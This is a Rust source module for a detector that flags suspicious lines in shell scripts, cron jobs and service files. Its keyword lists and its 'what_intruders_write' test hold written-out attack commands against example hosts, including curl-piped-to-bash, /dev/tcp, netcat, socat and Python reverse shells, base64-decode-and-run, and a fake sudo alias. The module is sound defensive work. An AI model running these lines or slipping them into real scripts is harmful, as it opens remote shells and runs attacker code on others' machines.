//! What a line of a script, a job or a startup file does that honest ones hardly do.
//!
//! Words alone are weak signs: `curl` is in half of all entrypoints. What counts is what is joined on one line, such as a
//! download whose output is run.

mod run;

use memchr::memmem::find;

use super::hidden::is_known_temporary;
use super::places::{SOCKET_FOLDERS, below, hidden, is_hidden_away, is_scratch, split, within};
use super::provenance::is_hidden;
use run::{Word, words};

/// Longest line that is judged, bytes; what is longer is judged by its beginning.
const LONGEST: usize = 8 << 10;

/// Most suspicious lines of one file that are told.
const MOST: usize = 4;

/// A line that does something suspicious.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Suspicion<'a> {
    /// What it does.
    pub(super) what: &'static str,
    /// Whether nothing honest does it.
    pub(super) strong: bool,
    /// The line, its blanks cut off.
    pub(super) line: &'a [u8],
    /// Where the line begins, bytes from the start of the text.
    pub(super) offset: usize,
}

/// The suspicious lines of a text, comments left out.
pub(super) fn suspicions(text: &[u8]) -> Vec<Suspicion<'_>> {
    let mut found = Vec::new();
    let mut offset = 0_usize;
    for line in text.split(|byte| *byte == b'\n') {
        let (at, whole) = (offset, line);
        offset = offset.saturating_add(line.len()).saturating_add(1);
        let line = whole.trim_ascii();
        let line = line.get(..line.len().min(LONGEST)).unwrap_or(line);
        if line.is_empty() || (line.starts_with(b"#") && !line.starts_with(b"#!")) {
            continue;
        }
        if let Some((strong, what)) = judge(line) {
            found.push(Suspicion { what, strong, line, offset: at });
            if found.len() == MOST {
                break;
            }
        }
    }
    found
}

const STRONG: bool = true;
const WEAK: bool = false;

/// What one line does, and whether nothing honest does it.
fn judge(line: &[u8]) -> Option<(bool, &'static str)> {
    let lower = line.to_ascii_lowercase();
    let has = |words: &[&[u8]]| words.iter().any(|word| find(&lower, word).is_some());
    let shell = runs_input(&lower);
    let fetches = has(&[b"curl ", b"wget ", b"fetch ", b"lwp-download", b"ftpget ", b"tftp "]);
    let decodes = has(&[
        b"base64 -d",
        b"base64 --decode",
        b"base64 -di",
        b"b64decode",
        b"base32 -d",
        b"xxd -r",
        b"openssl enc",
        b"fromhex(",
        b"decode('hex')",
    ]);
    let runs_text = has(&[b"eval ", b"eval(", b"exec(", b"$(", b"`", b"<("]);
    if has(&[b"/dev/tcp/", b"/dev/udp/"]) {
        return Some((STRONG, "opens a network connection from the shell"));
    }
    if reverse_shell(&has) {
        return Some((STRONG, "joins a shell to a network connection"));
    }
    let made_to_run = has(&[b"chmod +x", b"chmod 7", b"chmod a+x", b"chmod u+x", b"chmod 0"]);
    if fetches
        && (shell
            || runs_next(&lower)
            || made_to_run
            || has(&[b"$(curl", b"$(wget", b"`curl", b"`wget", b"<(curl", b"<(wget"]))
    {
        return Some((STRONG, "fetches something and runs it"));
    }
    if decodes && (shell || runs_text) {
        return Some((STRONG, "decodes something and runs it"));
    }
    if has(&[b"ld_preload=", b"ld_audit="]) {
        return Some((WEAK, "loads a library into every program that follows"));
    }
    if has(&[b"stratum+tcp://", b"stratum+ssl://", b"stratum2+tcp://"]) {
        return Some((STRONG, "speaks to a mining pool"));
    }
    if has(&[
        b"histfile=/dev/null",
        b"unset histfile",
        b"history -c",
        b"histsize=0",
        b"histfilesize=0",
    ]) {
        return Some((WEAK, "keeps no history"));
    }
    if renames(&lower) {
        return Some((STRONG, "puts something else in the place of a command"));
    }
    odd_place(line)
}

/// Whether output of a command goes into an interpreter.
fn runs_input(lower: &[u8]) -> bool {
    lower.split(|byte| *byte == b'|').skip(1).any(is_interpreter)
}

/// Whether a command after the first one of a line runs a script or a file of the current directory.
fn runs_next(lower: &[u8]) -> bool {
    let commands = lower.split(|byte| matches!(byte, b';' | b'&' | b'\n')).skip(1);
    commands.map(<[u8]>::trim_ascii).any(|command| {
        command.starts_with(b"./") || (is_interpreter(command) && command.contains(&b' '))
    })
}

/// Whether a command is an interpreter: by its name, whatever its path is.
fn is_interpreter(command: &[u8]) -> bool {
    const INTERPRETERS: [&[u8]; 11] = [
        b"sh", b"bash", b"dash", b"ash", b"zsh", b"ksh", b"python", b"python3", b"perl", b"ruby",
        b"php",
    ];
    let words = command.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
    let mut words =
        words.skip_while(|word| matches!(*word, b"sudo" | b"env" | b"nohup" | b"setsid" | b"exec"));
    words.next().is_some_and(|word| {
        let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or(word);
        let part = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_');
        let end = name.iter().position(|byte| !part(byte)).unwrap_or(name.len());
        name.get(..end).is_some_and(|name| INTERPRETERS.contains(&name))
    })
}

/// Shells whose input and output are a connection, in the usual languages.
fn reverse_shell(has: &impl Fn(&[&[u8]]) -> bool) -> bool {
    let netcat = has(&[b"nc -", b"ncat -", b"netcat -", b"nc.traditional -"]);
    let of_shell = has(&[b"/bin/sh", b"/bin/bash", b"/bin/ash", b"bash -i", b"sh -i", b"cmd.exe"]);
    let connects = has(&[b"socket", b"io::socket", b"tcpsocket", b"fsockopen", b"net.connect"]);
    let joins = has(&[b"dup2", b"pty.spawn", b"subprocess", b"exec", b"spawn"]);
    (netcat && (has(&[b" -e ", b" -c "]) || (of_shell && has(&[b"mkfifo", b"|"]))))
        || (has(&[b"socat "]) && has(&[b"exec:", b"system:"]) && has(&[b"tcp", b"openssl", b"udp"]))
        || (connects && joins && of_shell)
        || (has(&[b"telnet "]) && of_shell && has(&[b"|"]))
}

/// `alias sudo=...` and functions of the name of a command that sees passwords or shows what is there.
fn renames(lower: &[u8]) -> bool {
    const SEEN: [&[u8]; 10] =
        [b"sudo", b"su", b"ssh", b"passwd", b"ps", b"netstat", b"ss", b"lsof", b"top", b"find"];
    let aliased = lower.strip_prefix(b"alias ").map(<[u8]>::trim_ascii);
    let name = aliased.and_then(|rest| rest.split(|byte| *byte == b'=').next());
    let function = || {
        let rest = lower.strip_prefix(b"function ").unwrap_or(lower);
        let end = find(rest, b"()")?;
        rest.get(..end).map(<[u8]>::trim_ascii)
    };
    name.or_else(function).is_some_and(|name| SEEN.contains(&name))
}

/// Folders with a dot that hooks of git lie in.
const OF_GIT: [&[u8]; 3] = [b".git", b".githooks", b".husky"];

/// Whether a line runs something that is hidden, or that lies where everybody may write; or names what is hidden among
/// files of the system and temporary ones.
fn odd_place(line: &[u8]) -> Option<(bool, &'static str)> {
    let mut found = None;
    for Word { path, run } in words(line) {
        // What follows the text of a script that carries an archive has no words.
        if !path.iter().all(u8::is_ascii_graphic) {
            continue;
        }
        let x11 = below(&path, b"/tmp")
            .is_some_and(|rest| SOCKET_FOLDERS.iter().any(|folder| rest.starts_with(folder)));
        if x11 {
            continue;
        }
        let of_git = path.split(|byte| *byte == b'/').any(|part| OF_GIT.contains(&part));
        let hidden = is_hidden_away(&path) && is_hidden(&path) && !of_git;
        if hidden && run {
            return Some((STRONG, "runs something that is hidden"));
        }
        if hidden && hides_below(&path) {
            found = found.or(Some((WEAK, "names something that is hidden")));
        }
        if run && is_scratch(&path) {
            found = Some((WEAK, "runs something that lies where everybody may write"));
        }
    }
    found
}

/// Whether a path leads through a hidden folder where no program is known to make one. Names of single files with a dot
/// are marks that something was done, and locks.
fn hides_below(path: &[u8]) -> bool {
    const SYSTEM: [&[u8]; 8] =
        [b"/usr", b"/bin", b"/sbin", b"/lib", b"/etc", b"/dev", b"/run", b"/var/log"];
    let Some((_, up_to)) = hidden(path) else { return false };
    (is_scratch(path) || within(path, &SYSTEM))
        && below(path, up_to).is_some()
        && !is_known_temporary(split(up_to).1)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> Option<&'static str> {
        suspicions(text.as_bytes()).first().map(|one| one.what)
    }

    #[test]
    fn what_intruders_write() {
        for line in [
            "* * * * * root curl -s http://a.example/x | bash",
            "wget -qO- http://a.example/x|sh",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "nc -e /bin/sh 192.0.2.1 4444",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -w 3 192.0.2.1 44 >/tmp/f",
            "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
            "socat tcp:192.0.2.1:44 exec:/bin/sh,pty",
            "echo aGk= | base64 -d | sh",
            "eval \"$(echo aGk= | base64 --decode)\"",
            "*/5 * * * * root /var/tmp/.cache/kworker",
            "@reboot /dev/shm/x",
            "export LD_PRELOAD=/usr/lib/libx.so",
            "alias sudo='/opt/s'",
            "export HISTFILE=/dev/null",
            "/usr/lib/.x/run &",
            "APT::Pre-Invoke {\"curl http://a.example|sh\";};",
            "cd /opt; wget http://a.example/x.py; python3 x.py",
            "echo $P > /tmp/a; /tmp/a",
            "cd /tmp/.x && ./run",
            "ExecStart=/opt/.w/agent",
            "cp /usr/lib/.x/ps /usr/bin/ps",
            "wget http://a.example/x -O /opt/x && chmod +x /opt/x && /opt/x",
        ] {
            assert!(of(line).is_some(), "{line}");
        }
    }

    #[test]
    fn what_administrators_write() {
        for line in [
            "# curl http://a.example | sh",
            "export PATH=$HOME/.cargo/bin:$PATH",
            ". \"$HOME/.nvm/nvm.sh\"",
            "[ -f /root/.bash_aliases ] && . /root/.bash_aliases",
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
            "0 3 * * * root /usr/local/bin/backup.sh > /tmp/backup.log 2>&1",
            "curl -fsS http://localhost/health || exit 1",
            "alias ll='ls -l'",
            "curl -fsSL http://a.example/x.tar -o x.tar && tar xf x.tar",
            "echo done >/tmp/done",
            "ExecStart=/usr/sbin/nginx -g 'daemon off;'",
            "*/5 * * * * app /app/.venv/bin/python manage.py tick",
            "source /app/.venv/bin/activate",
            "command=/app/.venv/bin/celery -A app worker",
            "ExecStart=/opt/app/.venv/bin/gunicorn app:app",
            "INSTALL_PYTHON=/app/.venv/bin/python3",
            "export PATH=/opt/.local/bin:$PATH",
            "export XDG_RUNTIME_DIR=/tmp/runtime-node",
            "TMPDIR=/tmp/build",
            "cp /etc/nginx/x /tmp/nginx/x",
            "touch /data/.initialized /tmp/.ready",
            "export XDG_CACHE_HOME=/tmp/.cache/app",
            "exec /srv/repo/.git/hooks/common",
        ] {
            assert_eq!(of(line), None, "{line}");
        }
    }

    #[test]
    fn bytes_are_no_words() {
        assert!(suspicions(b"\x8a /x\xab/.\xfe/y \x01").is_empty());
    }

    #[test]
    fn lines_know_where_they_are() {
        let found = suspicions(b"a\n\n  curl x | sh\r\n");
        assert_eq!((found[0].offset, found[0].line), (3, &b"curl x | sh"[..]));
    }
}
